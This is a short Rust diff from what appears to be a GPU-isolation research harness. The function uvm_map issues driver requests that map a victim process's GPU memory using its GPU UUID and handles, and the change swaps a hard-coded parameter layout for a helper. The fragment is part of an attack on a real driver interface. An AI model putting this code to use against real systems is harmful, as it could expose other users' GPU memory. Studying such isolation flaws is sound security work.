@@ -364,12 +364,9 @@ fn uvm_map(a: &Attacker) -> Verdict {
     put_u64(&mut range, 0, base);
     put_u64(&mut range, 8, length);
     request(fd, 73, &mut range, 16)?;
-    let mut params = [0; 9264];
-    put_u64(&mut params, 0, base);
-    put_u64(&mut params, 8, length);
-    params[24..40].copy_from_slice(&a.victim.gpus.uuid);
-    put_u64(&mut params, 9240, 1);
-    put_u32(&mut params, 9252, a.victim.client);
-    put_u32(&mut params, 9256, victims::MEMORY);
-    request(fd, 33, &mut params, 9260)
+    let memory = (a.victim.client, victims::MEMORY);
+    let params = uvm::map_params((base, length), &a.victim.gpus.uuid, memory);
+    let mut params = params.ok_or("this driver's parameters are not known")?;
+    let status_at = params.len() - 4;
+    request(fd, 33, &mut params, status_at)
 }
